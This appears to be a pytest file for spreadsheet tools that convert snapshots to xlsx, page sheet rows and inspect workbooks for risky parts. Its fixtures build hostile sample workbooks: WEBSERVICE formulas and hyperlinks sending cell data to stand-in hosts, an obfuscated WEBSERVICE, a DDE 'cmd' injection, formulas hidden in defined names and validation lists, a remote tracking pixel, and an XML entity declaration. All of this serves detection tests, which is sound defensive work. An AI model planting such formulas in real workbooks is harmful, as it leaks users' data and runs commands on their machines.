"""The workbook files: the open workbook as .xlsx (snapshot_xlsx.py), output sheets as rows (sheet_rows.py), risky parts reported (workbook_risks.py).
Every case calls the functions as the worker does: by name through sandbox_entry.py, never
through the runner (our own code, not the model's)."""

import datetime
import json
import os
import zipfile

import openpyxl
from openpyxl.worksheet.table import Table

import sandbox_entry


def answer_of(text):
    answer = json.loads(text)
    assert answer["ok"], answer
    return answer["value"]


def make_inputs(tmp_path, files):
    input_dir = tmp_path / "input"
    input_dir.mkdir(exist_ok=True)
    for name, write in files.items():
        write(str(input_dir / name))
    return input_dir


def sheet_rows(tmp_path, files, name, sheet, page_rows=5000):
    """The rows answer and the folder holding its pages."""
    input_dir, pages_dir = make_inputs(tmp_path, files), tmp_path / "pages"
    pages_dir.mkdir(exist_ok=True)
    return answer_of(sandbox_entry.sheet_rows_json(str(input_dir / name), sheet, str(pages_dir), page_rows)), pages_dir


def inspect(tmp_path, files):
    input_dir = make_inputs(tmp_path, files)
    return answer_of(sandbox_entry.inspect_json(json.dumps([str(input_dir / name) for name in files])))


SNAPSHOT = {
    "version": 1,
    "sheets": [
        {
            "name": "Sales",
            "address": "B3:E6",
            "startRow": 2,
            "startColumn": 1,
            "values": [
                ["Region", "Date", "Share", "Amount"],
                ["North", 45292, 0.25, 1200.5],
                ["South", 45293.5, 0.5, None],
                ["West", 45294, 0.25, 80],
            ],
            "formats": {"columns": [None, "yyyy-mm-dd", "0.0%", "$#,##0.00"], "runs": [[0, 0, 1, None], [0, 0, 2, None], [0, 0, 3, None], [2, 2, 1, "yyyy-mm-dd hh:mm"]]},
            "tables": [{"name": "SalesTable", "address": "B3:E6", "headers": ["Region", "Date", "Share", "Amount"]}],
        },
        {"name": "Empty one", "address": None, "startRow": 0, "startColumn": 0, "values": [], "tables": []},
    ],
}


def test_snapshot_becomes_an_xlsx_with_tables_formats_and_dates(tmp_path):
    path = tmp_path / "Open workbook.xlsx"
    assert answer_of(sandbox_entry.snapshot_xlsx_json(json.dumps(SNAPSHOT), str(path))) == {"sheets": 2, "rows": 4}
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["Sales", "Empty one"]
    ws = wb["Sales"]
    assert ws["B3"].value == "Region" and ws["A1"].value is None
    assert ws["C4"].value == datetime.datetime(2024, 1, 1)
    assert ws["C5"].value == datetime.datetime(2024, 1, 2, 12, 0)
    assert ws["C5"].number_format == "yyyy-mm-dd hh:mm"
    assert ws["D4"].number_format == "0.0%" and ws["D4"].value == 0.25
    assert ws["E4"].number_format == "$#,##0.00" and ws["E5"].value is None
    assert ws["C3"].number_format == "General"
    assert list(ws.tables) == ["SalesTable"]
    assert ws.tables["SalesTable"].ref == "B3:E6"
    assert [c.name for c in ws.tables["SalesTable"].tableColumns] == ["Region", "Date", "Share", "Amount"]


def result_workbook(path):
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Stacked"
    ws.append(["Region", "Date", "Sales", "Note"])
    for i in range(12):
        ws.append(["North" if i % 2 else "South", datetime.datetime(2024, 1, 1 + i), i * 10.5, None if i == 3 else "n%d" % i])
    for row in ws.iter_rows(min_row=2, min_col=2, max_col=2):
        row[0].number_format = "dd/mm/yyyy"
    ws.append([])
    ws.append([])
    ws.add_table(Table(displayName="Stacked", ref="A1:D13"))
    other = wb.create_sheet("Links")
    other["A1"] = '=WEBSERVICE("https://example.invalid/x?q="&A2)'
    other["A2"] = "=SUM([1]Prices!A1:A4)"
    other["A3"] = "=cmd|' /C calc'!A0"
    other["A4"] = '=CONCAT("a|b", Table1[Col])'
    other["A5"] = "=Stacked!C2*2"
    other["A6"] = "=\uff37\uff25\uff22SERV\u200bICE(A1)"
    wb.save(path)


def test_rows_come_in_pages_with_typed_values_and_date_serials(tmp_path):
    report, out = sheet_rows(tmp_path, {"result.xlsx": result_workbook}, "result.xlsx", "Stacked", 5)
    assert report["headers"] == ["Region", "Date", "Sales", "Note"]
    assert report["rowCount"] == 12
    assert [p["rows"] for p in report["pages"]] == [5, 5, 2]
    assert report["numberFormats"] == [None, "dd/mm/yyyy", None, None]
    assert report["types"] == ["text", "date", "number", "text"]
    rows = []
    for page in report["pages"]:
        rows.extend(json.loads((out / page["name"]).read_text(encoding="utf-8")))
    assert rows[0] == ["South", 45292, 0, "n0"]
    assert rows[3] == ["North", 45295, 31.5, None]
    assert len(rows) == 12


def test_rows_report_flags_network_formulas_dde_and_external_references(tmp_path):
    report = sheet_rows(tmp_path, {"result.xlsx": result_workbook}, "result.xlsx", "Stacked")[0]["report"]
    flagged = {f["cell"]: f["reasons"] for f in report["networkFormulas"]}
    assert flagged == {"A1": ["WEBSERVICE"], "A2": ["external reference"], "A3": ["DDE"], "A6": ["WEBSERVICE"]}
    assert report["networkFormulaCount"] == 4
    assert report["hasVba"] is False and report["externalLinks"] == []


def test_asking_for_a_missing_sheet_names_the_sheets_there(tmp_path):
    input_dir = make_inputs(tmp_path, {"r.xlsx": result_workbook})
    answer = json.loads(sandbox_entry.sheet_rows_json(str(input_dir / "r.xlsx"), "Nope", str(tmp_path), 5000))
    assert not answer["ok"]
    assert "no sheet named 'Nope'" in answer["message"] and "Stacked, Links" in answer["message"]


def with_parts(path):
    """An xlsx that carries a vbaProject.bin and an external link part, as a macro workbook would."""
    result_workbook(path + ".plain")
    with zipfile.ZipFile(path + ".plain") as src, zipfile.ZipFile(path, "w") as dst:
        for item in src.infolist():
            dst.writestr(item, src.read(item.filename))
        dst.writestr("xl/vbaProject.bin", b"\x00not really vba")
        dst.writestr("xl/externalLinks/externalLink1.xml", "<externalLink/>")
    os.remove(path + ".plain")


def test_inspect_reports_vba_and_external_link_parts_per_file(tmp_path):
    reports = inspect(tmp_path, {"macro.xlsm": with_parts, "clean.xlsx": result_workbook})
    assert [r["file"] for r in reports] == ["macro.xlsm", "clean.xlsx"]
    assert reports[0]["hasVba"] is True
    assert reports[0]["externalLinks"] == ["xl/externalLinks/externalLink1.xml"]
    assert reports[1]["hasVba"] is False
    assert reports[1]["sheets"] == ["Stacked", "Links"]
    assert reports[1]["networkFormulaCount"] == 4


def with_doctype(path):
    """A result whose sheet XML declares an entity: what an XML attack on the reader looks like."""
    result_workbook(path + ".plain")
    with zipfile.ZipFile(path + ".plain") as src, zipfile.ZipFile(path, "w") as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]>' + (data.split(b"?>", 1)[1] if data.startswith(b"<?xml") else data)
            dst.writestr(item, data)
    os.remove(path + ".plain")


def not_a_workbook(path):
    with open(path, "w", encoding="utf-8") as fh:
        fh.write("Region,Sales\nNorth,10\n")


def test_the_files_are_opened_under_the_same_zip_and_xml_limits_as_a_run(tmp_path):
    input_dir = make_inputs(tmp_path, {"attack.xlsx": with_doctype, "text.xlsx": not_a_workbook})
    for name in ("attack.xlsx", "text.xlsx"):
        rows = json.loads(sandbox_entry.sheet_rows_json(str(input_dir / name), "", str(tmp_path), 5000))
        inspected = json.loads(sandbox_entry.inspect_json(json.dumps([str(input_dir / name)])))
        assert not rows["ok"] and not inspected["ok"], (rows, inspected)
        if name == "attack.xlsx":
            assert "xl/worksheets/sheet1.xml" in rows["message"] and "entity" in rows["message"]
        else:
            assert "text.xlsx" in inspected["message"]
    # The guard is lifted afterwards: a plain workbook reads as ever.
    assert sheet_rows(tmp_path, {"fine.xlsx": result_workbook}, "fine.xlsx", "Stacked")[0]["rowCount"] == 12


def hidden_formulas_workbook(path):
    """Network formulas where no cell shows them: a defined name, a conditional format, a validation list."""
    from openpyxl.formatting.rule import FormulaRule
    from openpyxl.workbook.defined_name import DefinedName
    from openpyxl.worksheet.datavalidation import DataValidation
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Sales Q1"
    ws.append(["Region", "Sales"])
    ws.append(["North", 10])
    ws["C2"] = "=Leak"  # the cell itself looks harmless
    leak = DefinedName("Leak", attr_text='WEBSERVICE("https://x.example/?d="&\'Sales Q1\'!$A$2)')
    if hasattr(wb.defined_names, "add"):
        wb.defined_names.add(leak)
    else:  # openpyxl < 3.1
        wb.defined_names.append(leak)
    ws.conditional_formatting.add("B2:B9", FormulaRule(formula=['ISNUMBER(WEBSERVICE("https://x.example/"&A2))'], fill=None))
    dv = DataValidation(type="list", formula1='=FILTERXML(WEBSERVICE("https://x.example/list"),"//i")')
    dv.add("A2:A9")
    ws.add_data_validation(dv)
    plain = DataValidation(type="list", formula1='"North,South"')
    plain.add("D2:D9")
    ws.add_data_validation(plain)
    wb.create_sheet("Other")["A1"] = "plain text"
    wb.save(path)


def test_inspect_finds_network_formulas_outside_cells(tmp_path):
    [report] = inspect(tmp_path, {"hidden.xlsx": hidden_formulas_workbook})
    places = {f["place"]: f["reasons"] for f in report["networkFormulas"]}
    assert places == {
        "defined name Leak": ["WEBSERVICE"],
        "conditional format on Sales Q1!B2:B9": ["WEBSERVICE"],
        "data validation on Sales Q1!A2:A9": ["FILTERXML", "WEBSERVICE"],
    }
    assert report["networkFormulaCount"] == 3


def linked_workbook(path):
    """Addresses outside the workbook where no formula shows them: a hyperlink whose address
    carries a cell's data, a chart series read from another workbook, a linked picture."""
    import zipfile
    from openpyxl.chart import BarChart, Reference
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Sales"
    for row in (["Region", "Sales"], ["North", 1200], ["South", 900]):
        ws.append(row)
    ws["C2"].hyperlink = "https://x.example/collect?d=" + str(ws["B2"].value)
    ws["D2"].hyperlink = "#Sales!A1"  # a jump inside the workbook: not reported
    chart = BarChart()
    chart.add_data(Reference(ws, min_col=2, min_row=1, max_row=3), titles_from_data=True)
    ws.add_chart(chart, "F2")
    plain = str(path) + ".plain.xlsx"
    wb.save(plain)
    with zipfile.ZipFile(plain) as src, zipfile.ZipFile(path, "w") as out:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename.startswith("xl/charts/chart"):
                data = data.replace(b"<f>'Sales'!$B$2:$B$3</f>", b"<f>[1]Sales!$B$2:$B$3</f>")
            if item.filename == "xl/drawings/_rels/drawing1.xml.rels":
                data = data.replace(b"</Relationships>", b'<Relationship Id="rIdPic" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="https://x.example/pixel.png" TargetMode="External"/></Relationships>')
            out.writestr(item, data)


def test_inspect_finds_links_chart_references_and_linked_pictures(tmp_path):
    [report] = inspect(tmp_path, {"linked.xlsx": linked_workbook})
    assert report["externalTargets"] == [
        {"kind": "link", "target": "https://x.example/collect?d=1200", "place": "link on Sales!C2"},
        {"kind": "linked picture", "target": "https://x.example/pixel.png", "place": "in xl/drawings/drawing1.xml"},
    ]
    assert report["externalTargetCount"] == 2
    assert [(f["place"], f["reasons"]) for f in report["networkFormulas"]] == [
        ("chart series in xl/charts/chart1.xml", ["external reference"])]


def test_a_plain_chart_and_internal_links_are_not_findings(tmp_path):
    def plain(path):
        from openpyxl.chart import LineChart, Reference
        wb = openpyxl.Workbook()
        ws = wb.active
        for row in (["Month", "Sales"], [1, 10], [2, 20]):
            ws.append(row)
        ws["D1"].hyperlink = "#Sheet!A1"
        chart = LineChart()
        chart.add_data(Reference(ws, min_col=2, min_row=1, max_row=3), titles_from_data=True)
        ws.add_chart(chart, "E2")
        wb.save(path)
    [report] = inspect(tmp_path, {"plain.xlsx": plain})
    assert (report["externalTargets"], report["networkFormulas"], report["externalLinks"]) == ([], [], [])
